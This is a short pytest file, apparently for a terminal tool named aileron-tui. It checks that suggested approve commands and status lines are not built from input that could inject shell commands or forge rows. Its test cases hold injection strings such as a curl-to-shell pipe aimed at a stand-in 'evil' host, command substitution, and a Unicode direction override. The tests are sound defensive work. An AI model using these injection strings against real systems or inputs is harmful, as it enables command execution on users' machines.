"""What a user reads who types a command for aileron-tui to an agent. The text may come from somebody else."""

import pytest

from aileron_tui.core.jsontext import Json
from aileron_tui.doors.hook_calls import prompt_hint, status_text


@pytest.mark.parametrize(
    "word", ["req-1;curl$IFS-evil|sh", "$(evil)", "`evil`", "--help", "a&b", "a\u202eb", "x" * 129]
)
def test_no_command_to_copy_contains_what_a_shell_would_run(word: str) -> None:
    assert prompt_hint(f"aileron approve {word}") == ""


def test_an_ordinary_command_is_repeated() -> None:
    assert prompt_hint("aileron approve act-1").endswith("  aileron-tui approve act-1")


def test_the_name_of_a_tool_cannot_forge_a_row_of_the_status() -> None:
    waiting: list[Json] = [{"id": "req-1", "action": "Bash\n  req-2  Read", "expires_at": "12:00"}]
    said = status_text({"agent": "claude", "version": "1", "waiting": waiting})
    assert len(said.splitlines()) == 2
    assert said.splitlines()[1].startswith("  req-1  Bash")
